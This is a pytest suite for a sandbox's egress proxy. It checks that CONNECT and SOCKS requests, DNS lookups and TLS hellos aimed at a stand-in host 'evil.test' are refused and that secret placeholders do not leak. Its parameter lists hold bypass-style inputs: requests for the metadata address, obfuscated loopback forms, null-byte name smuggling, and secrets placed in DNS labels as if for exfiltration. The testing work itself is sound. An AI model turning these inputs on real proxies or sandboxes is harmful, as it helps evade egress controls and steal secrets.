# SPDX-License-Identifier: Apache-2.0
"""What the capture offers besides dialling: the explicit proxy (cases 34, 35, 38, 46), names that carry
secrets (14), and clients that say little or odd things (45, 47 to 49)."""

import json
import socket
import struct
import time

import pytest
from egress_bench import EVIL, GOOD, GOOD6, S1, Box, ask_dns, status_of
from harness import resolver as dns

PROXY = "proxy.casemate.internal"
HTTP, SOCKS = 3128, 1080
AT_ONCE_MS = 500
ACCESS_DENIED = bytes([21, 3, 3, 0, 2, 2, 49])
GREETING = b"\5\1\0"


@pytest.fixture(scope="module")
def p1(box) -> str:
    return box.placeholder("S1")


def connect(authority: bytes) -> bytes:
    return b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + authority + b"\r\n\r\n"


def ask_http(box, *parts: bytes, **more) -> dict:
    result, = box.probe({"host": PROXY, "port": HTTP, "tls": False, "send": list(parts),
                         "timeout": 4, **more})
    return result


def socks(name: bytes | str, port: int, command: int = 1) -> bytes:
    if isinstance(name, str):
        name = name.encode()
    return struct.pack("BBBBB", 5, command, 0, 3, len(name)) + name + struct.pack(">H", port)


def ask_socks(box, request: bytes, *more: bytes, **options) -> dict:
    result, = box.probe({"host": PROXY, "port": SOCKS, "tls": False,
                         "send": [GREETING + request, *more], "timeout": 4, **options})
    return result


def reply_of(result: dict) -> int | None:
    """The code of the SOCKS reply behind the choice of method."""
    data = result["data"]
    return data[3] if data[:2] == b"\5\0" and len(data) >= 12 else None


def refusal_of(result: dict) -> dict:
    assert status_of(result) == 403, result
    return json.loads(result["data"].split(b"\r\n\r\n", 1)[1])


def nothing_arrived(lab) -> None:
    assert not lab.good.connections and not lab.evil.connections
    assert not lab.private.connections and not lab.node.connections


def test_the_proxy_has_an_address_of_its_own(box):
    four, six = ask_dns(box, dns.query(PROXY, dns.A), dns.query(PROXY, dns.AAAA))
    assert four.addresses() == ["198.18.0.1"]
    for address in (*four.addresses(), *six.addresses()):
        result, = box.probe({"host": address, "port": HTTP, "tls": False, "timeout": 4,
                             "send": connect(b"evil.test:443")})
        assert status_of(result) == 403, (address, result)
        other, = box.probe({"host": address, "port": 8080, "tls": False})
        assert other["ms"] < AT_ONCE_MS and "error" in other, "and no other ports"
    assert box.sh("env | grep -i _proxy").text == "", "nobody is told to use it"


@pytest.mark.parametrize("scheme", ["http", "socks5", "socks5h"])
def test_case_46_curl_through_the_proxy(lab, box, p1, scheme):
    via = f"{scheme}://{PROXY}:{HTTP if scheme == 'http' else SOCKS}"
    assert box.ok("-x", via, "https://api.test/via", "-H", f"x-key: {p1}") == "ok"
    assert lab.good.last().header("x-key") == S1, "intercepted inside the tunnel as well"
    assert box.ok("-k", "-x", via, "https://files.test/via", "-H", f"x-key: {p1}") == "ok"
    assert lab.good.last().header("x-key") == p1
    assert box.ok("-x", via, "http://files.test/plain?x=1") == "ok"
    assert lab.good.last().target == "/plain?x=1"
    assert box.ok("-p", "-x", via, "http://files.test/tunnelled") == "ok"
    out = box.curl("-x", via, "https://evil.test/")
    assert out.code != 0
    assert not lab.evil.connections
    lab.instance.audit.wait(ev="conn_deny", sandbox=box.id, name="evil.test")


def test_case_46_python_requests_of_many_hosts_over_one_proxy(lab, box):
    """Clients keep the proxy's connection for the next host."""
    out = box.curl("-v", "-x", f"http://{PROXY}:{HTTP}", "http://files.test/1",
                   "http://a.pkg.test/2", "http://api.test/3", "http://evil.test/4")
    assert [r.target for r in lab.good.requests] == ["/1", "/2", "/3"], out.stderr.decode()
    assert "EGRESS_DENIED" in out.text
    hosts = [r.header("host") for r in lab.good.requests]
    assert hosts == ["files.test", "a.pkg.test", "api.test"]
    assert all(r.header("proxy-connection") is None for r in lab.good.requests)


def test_case_46_plain_http_gets_no_value(lab, box, p1):
    result = ask_http(box, b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\nx-key: %s\r\n\r\n"
                      % p1.encode())
    assert status_of(result) == 403, result
    nothing_arrived(lab)


def test_case_46_body_and_dribble(lab, box):
    head = b"POST http://files.test/echo HTTP/1.1\r\nHost: files.test\r\nContent-Length: 5\r\n\r\n"
    result = ask_http(box, *(bytes([b]) for b in head + b"hello"), pause=0.002)
    assert status_of(result) == 200, result
    assert lab.good.last().body == b"hello"
    result = ask_http(box, *(bytes([b]) for b in connect(b"files.test:80")),
                      b"GET /in HTTP/1.1\r\nHost: files.test\r\nConnection: close\r\n\r\n", pause=0.002)
    assert result["data"].startswith(b"HTTP/1.1 200 Connection established\r\n\r\nHTTP/1.1 200"), result
    both = connect(b"files.test:80") + b"GET /eager HTTP/1.1\r\nHost: files.test\r\nConnection: close\r\n\r\n"
    assert ask_http(box, both)["data"].count(b"HTTP/1.1 200") == 2
    assert lab.good.last().target == "/eager"


@pytest.mark.parametrize("place", ["evil.test:443", f"{EVIL}:443", "files.test.evil.test:443",
                                       "tcp.test:5433", "10.1.2.3:80", "[::1]:80", "127.0.0.1:80",
                                       "169.254.169.254:80", "[::ffff:127.0.0.1]:80", "api.test:53",
                                       "localhost:80", f"{PROXY}:{HTTP}", f"198.18.0.1:{HTTP}",
                                       "198.19.255.254:443", "[64:ff9b::7f00:1]:80"])
def test_case_46_connect_is_judged_like_dialling(lab, box, place):
    result = ask_http(box, connect(place.encode()))
    assert result["ms"] < AT_ONCE_MS + 1000
    told = refusal_of(result)
    assert told["code"] == "EGRESS_DENIED" and told["reason"], told
    host, port = place.rsplit(":", 1)
    name, _, number = place.rpartition(":")
    if place[0] == "[":
        request = b"\5\1\0\4" + socket.inet_pton(socket.AF_INET6, host[1:-1]) + struct.pack(">H", int(port))
    else:
        request = socks(name, int(number))
    assert reply_of(ask_socks(box, request)) == 2
    nothing_arrived(lab)


def test_case_46_a_refusal_says_what_would_allow_it(lab, box):
    told = refusal_of(ask_http(box, connect(b"evil.test:443")))
    assert told["host"] == "evil.test" and told["port"] == 443
    assert '"evil.test:443"' in told["hint"] and "allow_net" in told["hint"]
    assert told["request"]


def test_case_46_another_name_within_the_tunnel(lab, box):
    for begin, host in ((connect(b"api.test:443"), HTTP), (GREETING + socks("api.test", 443), SOCKS),
                        (connect(b"files.test:443"), HTTP)):
        result, = box.probe({"host": PROXY, "port": host, "tls": False, "send": begin, "wait": 1,
                             "hello_after": "evil.test", "timeout": 4})
        assert result["data"].endswith(ACCESS_DENIED), result
    plain = b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    result = ask_http(box, connect(b"files.test:80") + plain)
    assert result["data"].split(b"\r\n\r\n", 1)[1].startswith(b"HTTP/1.1 421"), result
    nothing_arrived(lab)


def test_case_46_connect_within_interception(lab, box):
    result = box.request(connect(b"evil.test:443"))
    assert status_of(result) == 403, result
    result = ask_http(box, connect(b"files.test:80") + connect(b"evil.test:443"), until="zzz")
    assert not lab.evil.connections


@pytest.mark.parametrize("place", [b"user@api.test:443", b"api.test", b"api.test:0", b"api.test:70000",
                                       b"api.test:443/x", b"0x7f.1:80", b"2130706433:80", b"127.1:80",
                                       b"0177.0.0.1:80", b"evil.test\0.pkg.test:443", b"*.pkg.test:443",
                                       b"b\xc3\xbccher.pkg.test:443", b"a_b.pkg.test:443", b"api.test%00:443",
                                       b"api.test\\:443", b"api.test#:443", b"api.test\t:443"])
def test_case_34_35_38_names_that_cannot_be(lab, box, place):
    assert status_of(ask_http(box, connect(place))) in (400, 403)
    url = b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (place, place)
    if place != b"api.test":
        assert status_of(ask_http(box, url)) in (400, 403)
        name = place.rsplit(b":", 1)[0]
        if name != b"api.test":
            assert reply_of(ask_socks(box, socks(name, 443))) == 2
    nothing_arrived(lab)


def test_case_46_socks_commands_and_versions(lab, box):
    for command in (2, 3, 0, 255):
        assert reply_of(ask_socks(box, socks("files.test", 443, command))) == 7
    assert reply_of(ask_socks(box, b"\5\1\0\2")) == 8
    password, four, http = box.probe(
        {"host": PROXY, "port": SOCKS, "tls": False, "send": b"\5\1\2", "timeout": 4},
        {"host": PROXY, "port": SOCKS, "tls": False, "send": b"\4\1\0\x50" + b"\xcb\0\x71\x0a\0"},
        {"host": PROXY, "port": SOCKS, "tls": False, "send": b"GET / HTTP/1.1\r\n\r\n"})
    assert password["data"] == b"\5\xff"
    assert four["error"] == http["error"] == "ConnectionResetError"
    nothing_arrived(lab)


def test_case_46_socks_by_address(lab):
    box = Box(lab, allow_net=[GOOD, f"[{GOOD6}]"])
    get = b"GET / HTTP/1.1\r\nHost: x.test\r\nConnection: close\r\n\r\n"
    try:
        v4 = b"\5\1\0\1" + bytes(map(int, GOOD.split("."))) + struct.pack(">H", 80)
        assert b"HTTP/1.1 200" in ask_socks(box, v4 + get)["data"]
        bad = b"\5\1\0\1" + bytes(map(int, EVIL.split("."))) + struct.pack(">H", 80)
        assert reply_of(ask_socks(box, bad)) == 2
        assert b"200 OK" in ask_http(box, b"GET http://%s/ip HTTP/1.1\r\nHost: %s\r\n\r\n"
                                     % (GOOD.encode(), GOOD.encode()))["data"]
    finally:
        box.close()


def test_case_46_what_is_no_request(lab, box, p1):
    for send in (b"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n", b"GET https://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",
                 b"GET http://api.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", b"OPTIONS * HTTP/1.1\r\nHost: api.test\r\n\r\n",
                 b"CONNECT  HTTP/1.1\r\n\r\n", connect(p1.encode() + b".evil.test:443"),
                 b"GET http://" + p1.encode() + b".pkg.test/ HTTP/1.1\r\nHost: " + p1.encode() + b".pkg.test\r\n\r\n"):
        result = ask_http(box, send)
        assert status_of(result) == 400, result
        assert p1.encode() not in result["data"]
    for send in (b"\x16\x03\x01", b"\0" * 40, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"):
        assert "established" not in str(ask_http(box, send)["data"])
    nothing_arrived(lab)
    assert p1[:20] not in lab.instance.audit.file.read_text()


def test_case_14_placeholder_as_a_label(lab, box, p1):
    names = [f"{p1}.evil.test", f"{p1.upper()}.pkg.test", f"x{p1[:30]}.pkg.test"]
    for answer in ask_dns(box, *(dns.query(n, kind) for n in names for kind in (dns.A, dns.AAAA, dns.TXT))):
        assert answer.rcode == dns.REFUSED and not answer.records
    for name in names:
        assert box.curl(f"https://{name}/").code == 6
    event = lab.instance.audit.wait(ev="dns_deny", sandbox=box.id)
    assert "name" not in event and "placeholder" in event["reason"]
    assert p1[:20].lower() not in lab.instance.audit.file.read_text().lower()
    assert not lab.resolver.questions
    nothing_arrived(lab)


UPGRADES = {
    "h2c": b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
    "tls": b"Connection: Upgrade\r\nUpgrade: TLS/1.2\r\n",
    "odd": b"Connection: upgrade\r\nUpgrade: evil/1\r\n",
}


@pytest.mark.parametrize("kind", UPGRADES)
def test_case_45_upgrades_are_stripped(lab, box, kind):
    for port in (443, 80):
        result = box.request(b"GET /up HTTP/1.1\r\nHost: api.test\r\n" + UPGRADES[kind] + b"\r\n", port=port,
                             tls=port == 443, until="ok")
        assert status_of(result) in (200, 400, 403), result
        for request in lab.good.requests:
            assert request.header("upgrade") is None and request.header("http2-settings") is None
            assert "upgrade" not in (request.header("connection") or "").lower()


HELLOS = {
    "one byte at a time": ({"name": "files.test", "cut": 1}, True),
    "records of one byte": ({"name": "files.test", "record": 1}, True),
    "records of 100": ({"name": "files.test", "record": 100, "cut": 33}, True),
    "larger than 16 KB": ({"name": "files.test", "pad": 20000, "record": 16000}, True),
    "larger than it may be": ({"name": "files.test", "pad": 65400, "record": 16000}, False),
    "no name": ({"name": None}, True),
    "two names": ({"name": "files.test", "second": "evil.test"}, False),
    "two extensions": ({"name": "files.test", "again": "files.test"}, False),
    "an address": ({"name": GOOD}, False),
    "an odd address": ({"name": "127.1"}, False),
    "a dot at the end": ({"name": "files.test."}, False),
    "another name": ({"name": "a.pkg.test"}, False),
    "SSL 2": ({"raw": "802e0103010015000000100000050000040000030100800700c00300800600400200800400800000"}, False),
    "five bytes, then silence": ({"raw": "1603010200"}, False),
    "an empty record": ({"raw": "1603010000"}, False),
    "an alert": ({"raw": "15030100020100"}, False),
    "bytes behind it in its record": ({"name": "files.test", "behind": "0102030405"}, False),
}


@pytest.mark.parametrize("name", HELLOS)
def test_case_47_client_hellos(lab, box, name):
    """The origin's answer is a ServerHello or an alert of its own: what tells is whether it was reached."""
    spec, passes = HELLOS[name]
    result, = box.probe({"host": "files.test", "port": 443, "spec": spec, "timeout": 8, "once": True})
    assert result["ms"] < 6500, result
    assert bool(lab.good.connections) == passes, result
    if not passes:
        assert result["data"] in (b"", ACCESS_DENIED), result


def test_case_48_ech_to_a_bound_host_is_ignored(lab, box):
    result, = box.probe({"host": "api.test", "port": 443, "spec": {"name": "api.test", "ech": 1},
                         "timeout": 4, "once": True})
    assert result["data"][:1] == b"\x16", "a ServerHello of ours"


def test_case_48_ech_on_a_pass_through_host_is_refused(lab, box):
    result, = box.probe({"host": "files.test", "port": 443, "spec": {"name": "files.test", "ech": 1},
                         "timeout": 4, "once": True})
    assert result["data"] == ACCESS_DENIED, result
    event = lab.instance.audit.wait(ev="conn_deny", sandbox=box.id, name="files.test")
    assert "ECH" in event["reason"] and "ech" in event["reason"]
    nothing_arrived(lab)


def test_case_48_ech_cannot_hide_a_denied_name(lab):
    box = Box(lab, deny_net=["evil.test"])
    try:
        result, = box.probe({"host": "files.test", "port": 443, "spec": {"name": "files.test", "ech": 1},
                             "timeout": 4, "once": True})
        assert result["data"] == ACCESS_DENIED, result
    finally:
        box.close()


def test_case_48_ech_without_a_list_passes(lab):
    """Browsers grease always; where every public name is allowed there is nothing to hide one behind."""
    box = Box(lab)
    try:
        result, = box.probe({"host": "files.test", "port": 443, "spec": {"name": "files.test", "ech": 1},
                             "timeout": 4, "once": True})
        assert result["data"][:1] == b"\x16", result
        assert lab.good.connections
    finally:
        box.close()


def test_case_49_tls_on_an_odd_port(lab, box):
    result = box.request(b"GET /odd HTTP/1.1\r\nHost: files.test\r\nConnection: close\r\n\r\n",
                         host="files.test", port=8443, insecure=True)
    assert status_of(result) == 200
    wrong, = box.probe({"host": "evil.test", "port": 8443, "sni": "evil.test", "insecure": True})
    assert "error" in wrong and wrong["ms"] < AT_ONCE_MS


def test_case_49_client_first_and_ssh_like(lab, box):
    """Bytes that are neither TLS nor HTTP: passed where the rule names the port, refused on 443."""
    listed, = box.probe({"host": "tcp.test", "port": 5432, "tls": False, "timeout": 4,
                         "send": b"\0\0\0\x08\x04\xd2\x16\x2f\n"})  # PostgreSQL's SSLRequest
    assert listed["data"].startswith(b"READY tcp.test\n"), listed
    for port in (443, 80):
        ssh, = box.probe({"host": "files.test", "port": port, "tls": False, "timeout": 4,
                          "send": b"SSH-2.0-x\r\n"})
        assert not ssh["data"] and ssh["ms"] < AT_ONCE_MS, ssh
    through = ask_socks(box, socks("tcp.test", 5432), b"hello\n")
    assert through["data"].endswith(b"READY tcp.test\nHELLO\n"), through
    assert len(lab.greeter.connections) == 2
    nothing_arrived(lab)


def denials(box) -> list[dict]:
    out = box.sh("cat /run/casemate/denials.jsonl")
    return [json.loads(line) for line in out.text.splitlines()]


def test_the_sandbox_can_read_what_was_refused(lab, p1):
    box = Box(lab, allow_net=["api.test"], secrets={"S1": {"hosts": ["api.test"], "value": S1}})
    try:
        secret = box.placeholder("S1")
        box.curl("http://evil.test/path?query=1")
        box.curl(f"https://{secret}.evil.test/")
        box.curl("-H", f"x-key: {secret}", "http://api.test/path?query=2")
        lab.instance.audit.wait(ev="misuse", sandbox=box.id)
        lines = denials(box)
        assert {"what": "connection", "host": "evil.test", "port": 80, "reason": "no rule allows it"}.items() \
            <= next(one for one in lines if one["what"] == "connection").items()
        assert {one["what"] for one in lines} >= {"connection", "name", "secret"}
        for one in lines:
            assert set(one) <= {"ts", "what", "host", "port", "reason", "conn", "secret", "suppressed"}
            assert one["ts"] and one["reason"]
        text = json.dumps(lines)
        assert "query" not in text and secret not in text and "csec_" not in text and S1 not in text
        assert box.sh("rm -f /run/casemate/denials.jsonl; echo x > /run/casemate/y").code != 0
        other = Box(lab, allow_net=["api.test"])
        try:
            assert denials(other) == [], "each its own"
        finally:
            other.close()
    finally:
        box.close()


def test_the_sandbox_can_read_what_became_of_its_placeholders(lab):
    box = Box(lab, allow_net=["api.test"], secrets={"S1": {"hosts": ["api.test"], "value": S1}})
    try:
        secret = box.placeholder("S1")
        for _ in range(3):
            assert box.ok("https://api.test/", "-H", f"x-key: {secret}") == "ok"
        assert box.ok("https://api.test/", "-d", f"quoted {secret}") == "ok"
        box.curl("http://api.test/", "-H", f"x-key: {secret}")
        lab.instance.audit.wait(ev="request", sandbox=box.id)
        time.sleep(2.2)
        counts = json.loads(box.sandbox.check_sh("cat /run/casemate/secrets.json"))
        assert counts == {"S1": {"swapped": 3, "seen": 1, "refused": 1}}
    finally:
        box.close()


def test_a_flood_of_refusals_costs_neither_daemon_nor_guest(lab):
    """20 a second are told; the others are only counted in the audit."""
    box = Box(lab, allow_net=["api.test"])
    try:
        box.sandbox.python(
            "import socket\n"
            "for n in range(3000):\n"
            "    s = socket.socket(); s.settimeout(2)\n"
            "    try: s.connect(('203.0.113.66', 22)); s.recv(1)\n"
            "    except OSError: pass\n"
            "    s.close()\n")
        assert 1 <= len(denials(box)) < 400
        assert box.sh("sudo rm -rf /run/casemate && echo gone").text == "gone\n"
        box.curl("http://evil.test/")
        assert box.sh("echo still here").text == "still here\n"
    finally:
        box.close()


def test_case_62_a_forged_source_address(lab, box):
    """The sandbox is the socket: whatever source it claims, the same policy answers."""
    out = box.sandbox.python(
        "import socket\n"
        "for source in ('203.0.113.99', '192.0.2.1', '10.0.0.1', '198.18.0.5'):\n"
        "    s = socket.socket(); s.settimeout(3)\n"
        "    try:\n"
        f"        s.bind((source, 0)); s.connect(('{EVIL}', 80)); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
        "        print(source, s.recv(100)[:15])\n"
        "    except OSError as e: print(source, type(e).__name__)\n", sudo=True)
    assert out.code == 0, out.stderr
    for line in out.text.splitlines():
        assert "ConnectionResetError" in line or "OSError" in line or "403" in line, line
    nothing_arrived(lab)
